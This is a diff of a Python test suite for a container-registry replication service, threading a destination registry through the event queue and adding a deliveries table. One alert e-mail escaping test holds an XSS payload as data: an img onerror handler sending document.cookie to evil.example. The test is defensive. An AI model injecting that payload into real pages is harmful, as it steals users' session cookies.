@@ -22,7 +22,7 @@ from prometheus_client.parser import text_string_to_metric_families
 from registry_replication.outcomes import EventStatus
 from registry_replication.store import Store
 from registry_replication.store.queue import Event
-from registry_replication.store.schema import copied_bytes, events, runs
+from registry_replication.store.schema import copied_bytes, deliveries, events, runs
 from registry_replication.transport.client import RegistryClient
 from replication_harness import images
 from replication_harness.dag_runs import load_dags, run, wait_for_events
@@ -145,14 +145,21 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
         assert time.monotonic() < deadline
         time.sleep(0.1)
     store.queue.add(
-        [Event("bad-name", "push", "Group/BAD", "v1", None, None, dt.datetime.now(dt.UTC))]
+        [
+            Event(
+                "bad-name",
+                "push",
+                "Group/BAD",
+                "v1",
+                None,
+                None,
+                dt.datetime.now(dt.UTC),
+                status=EventStatus.REJECTED,
+                error="repository name out of grammar",
+            )
+        ],
+        ["registry_secondary"],
     )
-    with store.engine.begin() as conn:
-        conn.execute(
-            events.update()
-            .where(events.c.id == "bad-name")
-            .values(status=EventStatus.REJECTED, last_error="repository name out of grammar")
-        )
 
     # What the reconcile must copy: every blob the secondary lacks, but the rotten one.
     missing = [
@@ -307,13 +314,17 @@ def test_a_report_prunes_the_store_history_and_the_counters_hold(
     store.history.record_copied_bytes(
         "registry_reconcile", "old", "copy_blobs", 0, "registry_secondary", 12345
     )
-    store.queue.add([Event("old-event", "push", "group/app", "v0", None, None, long_ago)])
-    owner, _ = store.queue.claim()
-    store.queue.complete(owner, ["old-event"])
+    store.queue.add(
+        [Event("old-event", "push", "group/app", "v0", None, None, long_ago)],
+        ["registry_secondary"],
+    )
+    owner, _ = store.queue.claim("registry_secondary")
+    store.queue.complete("registry_secondary", owner, ["old-event"])
     with store.engine.begin() as conn:
         conn.execute(runs.update().values(finished_at=long_ago))
         conn.execute(copied_bytes.update().values(recorded_at=long_ago))
         conn.execute(events.update().values(updated_at=long_ago))
+        conn.execute(deliveries.update().values(updated_at=long_ago))
     before = scrape(app)
     assert before[("registry_replication_bytes_copied_total", ())] == 12345
     assert before[("registry_replication_events_total", (("outcome", "done"),))] == 1
@@ -324,8 +335,8 @@ def test_a_report_prunes_the_store_history_and_the_counters_hold(
     assert run("registry_reconcile").state == "success"
 
     assert (
-        "from the replication store, 1 runs, 1 events, 1 copied bytes records older than "
-        "30 days" in caplog.text
+        "from the replication store, 1 runs, 1 events, 1 deliveries, 1 copied bytes records "
+        "older than 30 days" in caplog.text
     )
     with store.engine.connect() as conn:
         kept = conn.execute(sa.select(runs.c.run_id)).scalars().all()
@@ -508,10 +519,17 @@ def test_the_alert_e_mail_example_escapes_what_registries_wrote(store, monkeypat
         "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> & "
         "</pre><script>alert(1)</script>"
     )
-    store.queue.add([Event("e1", "push", "group/app", "v1", None, None, dt.datetime.now(dt.UTC))])
-    owner, _ = store.queue.claim()
+    store.queue.add(
+        [Event("e1", "push", "group/app", "v1", None, None, dt.datetime.now(dt.UTC))],
+        ["registry_secondary"],
+    )
+    owner, _ = store.queue.claim("registry_secondary")
     store.queue.retry_later(
-        owner, ["e1"], f"get manifest: HTTP 400 MANIFEST_INVALID: {hostile}", max_attempts=1
+        "registry_secondary",
+        owner,
+        ["e1"],
+        f"get manifest: HTTP 400 MANIFEST_INVALID: {hostile}",
+        max_attempts=1,
     )
     monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER", f"{__name__}.RecordingNotifier")
     monkeypatch.setenv(
